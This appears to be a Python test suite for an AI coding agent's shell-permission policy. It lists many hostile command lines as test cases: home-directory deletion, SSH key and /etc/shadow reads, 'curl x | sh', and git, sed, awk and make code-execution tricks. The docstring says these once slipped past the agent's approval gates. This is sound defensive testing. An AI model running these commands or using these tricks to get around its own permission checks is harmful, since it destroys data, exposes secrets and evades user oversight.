"""
Command lines that stretched a `Bash(…)` rule, or slipped past the "always asks" gates, to what the user never allowed.

Each form below ran without a question before ADR 0045 (with the rules shown, or with a bare `Bash` rule for the
gate forms) unless marked "already asked" (kept as a regression); each must now ask. The everyday forms after them
must stay covered, so the fix does not make the agent ask for its ordinary work.
"""

from __future__ import annotations

import shutil
import subprocess
import tempfile
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from voicecoder.domain.model import ToolKind, ToolRequest
from voicecoder.domain.policy import ToolAction, ToolPolicy
from voicecoder.domain.shell import covered_by, parse_command, private_reason, rule_specifier
from voicecoder.domain.shell_lexer import Op, lex
from voicecoder.domain.shell_paths import expand_braces

WS = "/srv/ws"
HOME = "/home/dev"
PRIVATE = ("/etc/voicecoder/voicecoder.env", "/var/lib/voicecoder/data", f"{HOME}/.claude")


def decide(rules: str, command: str) -> ToolAction:
    """The policy's answer with *rules* (one rule, or several joined by " + ") allowed."""
    policy = ToolPolicy(workspace=WS, home=HOME, private=PRIVATE, allow=tuple(rules.split(" + ")))
    return policy.decide(ToolRequest("r", "Bash", ToolKind.SHELL, "Bash", command=command)).action


# rule, command: each ran unasked before.
STRETCHED = [
    # bash's own word splitting, read differently
    ("Bash(echo *)", "echo a#b; rm -rf ~"),  # '#' inside a word is no comment
    ("Bash(echo *)", "echo a\\\\\nrm -rf ~"),  # an escaped backslash, then a real newline
    ("Bash(echo *)", "echo x;>/etc/x"),  # an operator glued to a redirection
    ("Bash(echo *)", "(echo x)>/etc/x"),
    ("Bash(cat *)", "cat <<EOF\ncat '\nEOF\nrm -rf ~ #'"),  # a quote in a here-document body
    ("Bash(git log *)", "git log --out\\\nput=/etc/x"),  # a line continuation joins, it does not split
    ("Bash(cat *)", "cat /etc/voicecoder/voice\\\ncoder.env"),
    ("Bash(cat *)", "cat $'\\x2fetc/voicecoder/voicecoder.env'"),  # ANSI-C quoting
    ("Bash(cat *)", "cat $'\\057etc/shadow'"),
    # wrappers whose options take values
    ("Bash(10 *)", "nice -n 10 rm -rf ~"),
    # paths outside the workspace named by a covered command
    ("Bash(cat *)", "cat {/etc/voicecoder/voicecoder.env,x}"),
    ("Bash(cat *)", "cat ~/.ssh/id_rsa"),
    ("Bash(cat *)", "cat ~root/.ssh/id_rsa"),
    ("Bash(cat *)", "cat $HOME/.ssh/id_rsa"),
    ("Bash(cat *)", "cat ../../etc/passwd"),
    ("Bash(cat *)", "cat .*/.*/etc/passwd"),
    ("Bash(cat *)", "cat </etc/shadow"),
    ("Bash(cat *)", "cat file:///etc/shadow"),
    ("Bash(ls *)", "ls ~/.ssh"),
    ("Bash(ls *)", "ls -la /home"),
    ("Bash(cd *) + Bash(cat *)", "cd && cat .ssh/id_rsa"),
    ("Bash(cd *) + Bash(ls *)", "cd - && ls"),
    ("Bash(cd *) + Bash(cat *)", "cd ~ && cat .netrc"),
    ("Bash(pytest *)", "pytest --junitxml=/etc/x"),
    ("Bash(pytest *)", "pytest --cov-report=xml:/etc/x"),
    ("Bash(pytest *)", "pytest -o cache_dir=/etc/x"),
    ("Bash(pytest *)", "pytest -c /etc/x.ini"),
    ("Bash(pytest *)", "pytest --rootdir=/"),
    ("Bash(pytest *)", "pytest --basetemp=/home/dev"),
    ("Bash(pytest *)", "PYTEST_ADDOPTS=--basetemp=/home/dev pytest"),
    ("Bash(python -m pytest *)", "python -m pytest -c /etc/x"),
    ("Bash(make *)", "make -C / x"),
    ("Bash(make *)", "make -f /tmp/x"),
    ("Bash(make *)", "make -C/ x"),
    ("Bash(make *)", "make --eval='$(shell rm -rf ~)'"),
    ("Bash(make *)", "make SHELL=./x.sh"),
    ("Bash(make *)", "MAKEFLAGS=-f/tmp/x make"),
    ("Bash(npm test *)", "npm test --prefix /"),
    ("Bash(npm test *)", "npm test --script-shell=./x.sh"),
    ("Bash(make *)", "make 'X:=$(shell touch x)'"),
    ("Bash(cargo test *)", "cargo test --config 'target.x.runner=\"sh\"'"),
    ("Bash(go test *)", "go test -exec=./x ./..."),
    ("Bash(echo *)", "echo $'\\x2f' > x"),  # an expansion: its value depends on the environment
    ("Bash(cat *)", "env -C / cat etc/shadow"),  # already asked (the program was "/")
    ("Bash(cd *) + Bash(cat *)", "CDPATH=/ cd etc; cat shadow"),
    # git configured, or told to run a program, on its command line
    ("Bash(git *)", "git -c core.pager='sh -c id' log"),
    ("Bash(git *)", "git -c alias.x='!rm -rf ~' x"),
    ("Bash(git *)", "git --config-env=core.pager=X log"),
    ("Bash(git *)", "git --exec-path=. x"),
    ("Bash(git *)", "git grep -Osh x"),
    ("Bash(git *)", "git grep --open-files-in-pager=sh x"),
    ("Bash(git *)", "git bisect run ./x.sh"),
    ("Bash(git *)", "git clone --template=t https://example.org/r.git"),
    ("Bash(git *)", "git fetch --upload-pack='sh -c id' origin"),
    # code in a program's words
    ("Bash(sed *)", "sed -n '1e rm -rf ~' README.md"),
    ("Bash(sed *)", "sed 's/a/b/e' README.md"),
    ("Bash(sed *)", "sed 's/a/b/w out.txt' README.md"),
    ("Bash(sed *)", "sed -e p -e 'R /etc/shadow' README.md"),
    ("Bash(sed *)", "sed -f script.sed README.md"),
    ("Bash(awk *)", "awk 'BEGIN{system(\"rm -rf ~\")}'"),
    ("Bash(awk *)", "awk '{print | \"sh\"}' x"),
    ("Bash(awk *)", "awk '{print > \"/etc/x\"}' x"),
    ("Bash(awk *)", "awk -f prog.awk x"),
    # find running other commands
    ("Bash(find *)", "find . -exec rm -rf {} +"),
    ("Bash(find *)", "find . -name x -execdir sh -c 'curl x | sh' \\;"),
    ("Bash(find *)", "find . -ok cat /etc/shadow \\;"),
    # file names the words do not show
    ("Bash(cat *)", "cat list.txt | xargs cat"),
    ("Bash(cat *)", "cat list.txt | xargs -0 cat"),
    ("Bash(echo *) + Bash(cat *)", "echo -e '\\x2fetc\\x2fshadow' | xargs cat"),
    ("Bash(wc *)", "wc -l --files0-from=list"),
    ("Bash(tar *)", "tar -czf a.tgz -T list"),
    ("Bash(zip *)", "zip a.zip -@ < list"),
    # a search's pattern is no path, but its files are, even when they read the same or follow valued options
    ("Bash(grep *)", "grep /etc/shadow /etc/shadow"),
    ("Bash(grep *)", "grep -r x /etc"),
    ("Bash(grep *)", "grep -e /api/ /etc/passwd"),
    ("Bash(grep *)", "grep -e/api/ /etc/passwd"),
    ("Bash(grep *)", "grep -A 3 x /etc/passwd"),
    ("Bash(grep *)", "grep -rnA3 x /etc"),
    ("Bash(grep *)", "grep -f /etc/shadow src/a.py"),
    ("Bash(grep *)", "grep --regexp /api/ /etc/passwd"),
    ("Bash(grep *)", "grep -- /api/ /etc/passwd"),
    ("Bash(rg *)", "rg -e x /etc"),
    ("Bash(rg *)", "rg -g '*.conf' x /etc"),
    ("Bash(awk *)", "awk /etc/shadow /etc/shadow"),
]


@pytest.mark.parametrize(("rule", "command"), STRETCHED)
def test_a_rule_is_not_stretched(rule: str, command: str) -> None:
    """None of these is what the rule's author allowed: each asks."""
    assert decide(rule, command) is ToolAction.ASK


# command, what the question says: each ran unasked under a bare `Bash` rule, which leaves only these gates.
GATED = [
    ("nice -n 10 rm -rf ~", "deletes"),
    ("timeout -s KILL 5 rm -rf ~", "deletes"),
    ("timeout --kill-after 1 5 git push", "git push"),
    ("stdbuf -o L rm -rf ~", "deletes"),
    ("env -u HOME rm -rf ~", "deletes"),
    ("env -S 'rm -rf ~'", "deletes"),
    ("setsid rm -rf ~", "deletes"),
    ("watch -n 1 rm -rf ~", "deletes"),
    ("script -qc 'git push' /dev/null", "git push"),
    ("flock -c 'git push' lock", "git push"),
    ("bash -ec 'git push'", "git push"),
    ("{ rm -rf ~; }", "deletes"),
    ("if true; then rm -rf ~; fi", "deletes"),
    ("while false; do git push; done", "git push"),
    ("! git push", "git push"),
    ("f(){ rm -rf ~; }; f", "deletes"),
    ("case x in x) git push;; esac", "git push"),
    ("r\\\nm -rf ~", "deletes"),
    ("echo a#b; git push", "git push"),
    ("cat <<EOF\n'\nEOF\ngit push #'", "git push"),
    ("/bin/r? -rf ~", "depends on a variable or a pattern"),
    ("$RM -rf ~", "depends on a variable or a pattern"),
    ("find . -exec rm -rf ~ \\;", "deletes"),
    ("find . -execdir git push \\;", "git push"),
    ("time -o /etc/x pytest", "/etc/x"),
    ("ln -s / root", "links to /"),
    ("ln -sf /etc/voicecoder v", "links to /etc/voicecoder"),
    ("pytest --basetemp=/home/dev", "--basetemp"),
    ("pytest --basetemp .", "--basetemp"),
    ("python3 -m pytest --junit-xml /etc/x", "/etc/x"),
    ("pytest --debug=/etc/x", "/etc/x"),
]


@pytest.mark.parametrize(("command", "why"), GATED)
def test_the_destructive_gate_sees_through_it(command: str, why: str) -> None:
    """Even a bare `Bash` rule leaves these to the user, flagged with what they do."""
    policy = ToolPolicy(workspace=WS, home=HOME, private=PRIVATE, allow=("Bash",))
    ruling = policy.decide(ToolRequest("r", "Bash", ToolKind.SHELL, "Bash", command=command))

    assert ruling.action is ToolAction.ASK
    assert ruling.flagged is not None
    assert why in ruling.flagged


@pytest.mark.parametrize(
    "command",
    [
        "cat {/etc/voicecoder/voicecoder.env,x}",
        "cat {,/etc/voicecoder/}voicecoder.env",
        "cat /etc/voicecoder/voicecoder.e{n,x}v",
        "cat /proc/self/root/etc/voicecoder/voice*.env",
        "cat /proc/1/cwd/x",
        "cat /proc/self/fd/3",
        "cat $'\\x2fetc/voicecoder/voicecoder.env'",
        "cat /etc/voicecoder/voice\\\ncoder.env",
        "cat < {/var/lib/voicecoder/data/state.sqlite3,x}",
        "env -C /etc/voicecoder cat voicecoder.env",
        "time -o /var/lib/voicecoder/data/x pytest",
        "cat $HOME/.claude/.credentials.json",
        "cat ${HOME}/.claude/.credentials.json",
        "cat $CLAUDE_CONFIG_DIR/../.claude/.credentials.json",
        "cat ${D:-/etc/voicecoder}/voicecoder.env",
    ],
)
def test_private_paths_are_found_through_braces_proc_and_quoting(command: str) -> None:
    """voicecoder's own files are flagged however the path is spelled."""
    assert private_reason(command, PRIVATE, WS, home=HOME) is not None


def test_a_private_path_is_found_from_a_deeper_working_directory() -> None:
    """The agent's shell keeps its directory: `../../data` from a subdirectory may be the data dir next door."""
    private = ("/srv/data",)

    assert private_reason("cat ../../data/state.sqlite3", private, WS, home=HOME) is not None
    assert private_reason("cat ../data/state.sqlite3", private, WS, home=HOME) is not None
    assert private_reason("cat data/state.sqlite3", private, WS, home=HOME) is None
    assert private_reason("cat $HOME/notes.txt", private, WS, home=HOME) is None


# rule, command: the agent's ordinary work, which must stay covered.
EVERYDAY = [
    ("Bash(pytest *)", "pytest -q tests/ 2>&1 | tail -20"),
    ("Bash(pytest *)", "pytest -x -k 'not slow' --tb=short"),
    ("Bash(pytest *)", "pytest --cov=src --cov-report=term-missing"),
    ("Bash(pytest *)", "pytest -W error::DeprecationWarning tests/unit"),
    ("Bash(pytest *)", f"pytest {WS}/tests/test_a.py::test_x -vv"),
    ("Bash(pytest *)", "pytest --junitxml=report.xml"),
    ("Bash(pytest *)", "pytest > out.txt 2>&1"),
    ("Bash(pytest *)", "pytest 2>/dev/null"),
    ("Bash(pytest *)", "CI=1 pytest -q"),
    ("Bash(pytest *)", "timeout 600 pytest -q"),
    ("Bash(git log *)", "git log --oneline -10"),
    ("Bash(git log *)", "git log --format='%h %an <%ae> %s' origin/main..HEAD"),
    ("Bash(git log *)", "git log -p -- src/a.py | head -50"),
    ("Bash(git log *)", "git log --since=2.weeks --grep=fix"),
    ("Bash(git log *)", "git log HEAD~3..HEAD --stat"),
    ("Bash(git status)", "git status"),
    ("Bash(npm test *)", "npm test -- --watchAll=false"),
    ("Bash(make *)", "make test"),
    ("Bash(make *)", "make -j4 build"),
    ("Bash(make *)", "make -C docs html"),
    ("Bash(make *)", "make test VERBOSE=1 CC=gcc"),
    ("Bash(ls *)", "ls -la"),
    ("Bash(ls *)", "ls -la src/ tests/"),
    ("Bash(ls *)", "ls src/*.py"),
    ("Bash(cat *)", "cat README.md"),
    ("Bash(cat *)", "cat src/{a,b}.py"),
    ("Bash(cat *)", "cat -n src/app.py | head -40"),
    ("Bash(cat *)", "cat <<'EOF'\nhello $x 'quote\nEOF"),
    ("Bash(cat *)", "cat > notes.md <<'EOF'\n# Title\nit's fine; rm -rf ~\nEOF"),
    ("Bash(echo *)", "echo hello"),
    ("Bash(echo *)", "echo 'a: b, c=d' # a comment"),
    ("Bash(echo *)", "echo done > status.txt"),
    ("Bash(echo *)", "echo 'it''s' \"$'x'\""),
    ("Bash(sed *)", "sed -n '1,40p' src/app.py"),
    ("Bash(sed *)", "sed -i 's/foo/bar/g' src/app.py"),
    ("Bash(sed *)", "sed -n '/^def /{p;=}' src/app.py"),
    ("Bash(awk *)", "awk '{print $1}' data.txt"),
    ("Bash(git diff *)", "git diff HEAD~1 -- src/"),
    ("Bash(git show *)", "git show HEAD:src/a.py"),
    ("Bash(find *)", "find . -name '*.py' -not -path './.venv/*'"),
    ("Bash(grep *)", "grep -rn 'def main' src/"),
    ("Bash(grep *)", "grep -rn /api/ src"),
    ("Bash(grep *)", "grep -e /api/ -e '/v2/' src tests"),
    ("Bash(grep *)", "grep --regexp=/usr/bin -A 3 README.md"),
    ("Bash(grep *)", "grep -rnA3 /api/ src"),
    ("Bash(rg *)", "rg -g '*.py' -t py /api/ src"),
    ("Bash(rg *)", "rg -e /api/ ."),
    ("Bash(go test *)", "go test ./..."),
    ("Bash(curl *)", "curl -s https://example.org/api"),
    ("Bash(python -m pytest *)", "python -m pytest \\\n  -q tests/"),
]


@pytest.mark.parametrize(("rule", "command"), EVERYDAY)
def test_everyday_work_stays_covered(rule: str, command: str) -> None:
    assert decide(rule, command) is ToolAction.ALLOW


class TestLexer:
    def test_words_and_operators_as_bash_reads_them(self) -> None:
        """Quotes go, operators stand alone (a quoted one is a word), a descriptor belongs to its redirection."""
        lexed = lex("FOO=1 a'b'\"c\" ';' x;>f 2>&1 {fd}<in # gone\nnext")

        assert lexed is not None
        assert list(lexed.tokens) == ["FOO=1", "abc", ";", "x", ";", ">", "f", ">&", "1", "<", "in", "\n", "next"]
        assert [isinstance(t, Op) for t in lexed.tokens] == [False] * 4 + [True, True, False, True, False, True] + [
            False,
            True,
            False,
        ]

    def test_substitutions_and_here_documents(self) -> None:
        """Substitution bodies are returned (from an unquoted here-document too); a quoted one's body is data."""
        lexed = lex("echo \"$(a)\" `b` ${x:-$(c)} <(d) $((1+2))\ncat <<E\n$(e)\nE\ncat <<'Q'\n$(f)\nQ")

        assert lexed is not None
        assert list(lexed.inner) == ["a", "b", "c", "d", "(1+2)", "e"]
        assert not any("$(f)" in token for token in lexed.tokens)

    @pytest.mark.parametrize("command", ["echo 'open", 'echo "open', "echo $(open", "echo `open", "echo ${open"])
    def test_an_unclosed_quote_or_substitution_cannot_be_followed(self, command: str) -> None:
        assert lex(command) is None
        assert covered_by(command, ["echo *"], WS) is None

    def test_wrappers_and_reserved_words_are_looked_through(self) -> None:
        """The program is what runs, not a reserved word or a wrapper's option value; the offered rule says so."""
        parsed = parse_command("if true; then nice -n 10 timeout -s KILL 5 pytest -q; fi")

        assert [s.words for s in parsed.segments] == [("true",), ("pytest", "-q")]
        assert rule_specifier("nice -n 10 pytest -q") == "pytest *"


@pytest.mark.parametrize(
    ("word", "expanded"),
    [
        ("{/etc/x,y}", ["/etc/x", "y"]),
        ("a{b,c{d,e}}f", ["abf", "acdf", "acef"]),
        ("x{1..3}", ["x1", "x2", "x3"]),
        ("{a..e..2}", ["a", "c", "e"]),
        ("{x}", ["{x}"]),
        ("{1..a}", ["{1..a}"]),
        ("${HOME}", ["${HOME}"]),
        ("{1..100000000}", None),
    ],
)
def test_brace_expansion(word: str, expanded: list[str] | None) -> None:
    """Brace expansion as bash does it; too many words to check is None (the caller then asks)."""
    assert expand_braces(word) == expanded


# --- bash itself as the oracle ---------------------------------------------------------------------

#: Pieces of shell text a fuzzer strings together after `probe`: quoting, separators, comments, continuations,
#: substitutions, redirections out of the workspace, commands that are not `probe`.
PIECES = [
    " ",
    "a",
    "x/",
    ";",
    "&",
    "|",
    "#",
    "'",
    '"',
    "\\",
    "\n",
    "\\\n",
    "$(",
    ")",
    "(",
    "`",
    ">",
    "<",
    ">|",
    "2>",
    "&>",
    "{",
    "}",
    ",",
    "rm",
    "touch",
    "../out/f",
    "~/f",
    "$'\\x3b'",
    "$'\\x2e\\x2e/out/g'",
    "<<E\n",
    "<<'E'\n",
    "E\n",
    "eval ",
    "exec ",
    "cd ",
    "then ",
    "$HOME",
    "{../out/h,a}",
]
_HANDLER = 'command_not_found_handle() { printf "%s\\n" "$1" >> "$RAN"; return 127; }\n'


def _run_in_bash(command: str) -> tuple[list[str], list[str], str]:
    """Run *command* in bash with only `probe` on PATH: what else it tried to run, wrote outside, and stderr."""
    with tempfile.TemporaryDirectory() as root:
        base = Path(root)
        (ws := base / "ws").mkdir()
        (out := base / "out").mkdir()
        (bin_dir := base / "bin").mkdir()
        probe = bin_dir / "probe"
        probe.write_text("#!/bin/sh\nexit 0\n")
        probe.chmod(0o755)
        (base / "env.sh").write_text(_HANDLER)
        ran = base / "ran.txt"
        env = {"PATH": str(bin_dir), "HOME": str(out), "BASH_ENV": str(base / "env.sh"), "RAN": str(ran)}
        result = subprocess.run(
            [BASH, "-c", command],
            cwd=ws,
            env=env,
            stdin=subprocess.DEVNULL,
            capture_output=True,
            text=True,
            timeout=20,
            check=False,
        )
        tried = ran.read_text().split() if ran.exists() else []
        return tried, sorted(p.name for p in out.iterdir()), result.stderr


BASH = shutil.which("bash") or "/bin/bash"


@pytest.mark.skipif(not Path(BASH).exists(), reason="bash is not installed")
@given(st.lists(st.sampled_from(PIECES), min_size=1, max_size=10).map("".join))
def test_a_covered_line_runs_nothing_but_what_the_rule_names(tail: str) -> None:
    """
    Whatever follows `probe`, if `Bash(probe *)` covers the line, bash runs no other program and writes nothing
    outside the workspace: the analysis reads the line as bash does (bash is the oracle, not our own reading).
    """
    command = "probe " + tail
    with tempfile.TemporaryDirectory() as root:
        workspace = str(Path(root) / "ws")
        home = str(Path(root) / "out")
        if covered_by(command, ["probe *"], workspace, home=home) is None:
            return
    tried, written, stderr = _run_in_bash(command)

    assert tried == [], f"{command!r} ran {tried}"
    assert written == [], f"{command!r} wrote {written} outside the workspace"
    assert "not found" not in stderr, f"{command!r}: {stderr}"


@pytest.mark.parametrize(
    ("command", "offered"),
    [
        ("cat README.md", "Bash(cat *)"),
        ("nice -n 10 pytest -q", "Bash(pytest *)"),
        ("cat ~/.ssh/id_rsa", None),
        ("PYTHONPATH=/opt/x pytest", None),
        ("make --eval='$(shell id)'", None),
    ],
)
def test_allow_for_this_session_is_offered_only_when_its_rule_covers_the_line(
    command: str, offered: str | None
) -> None:
    """A rule that would not cover the very line it was offered for would ask again: it is not offered."""
    ruling = ToolPolicy(workspace=WS, home=HOME).decide(ToolRequest("r", "Bash", ToolKind.SHELL, "B", command=command))

    assert ruling.action is ToolAction.ASK
    assert ruling.rule == offered
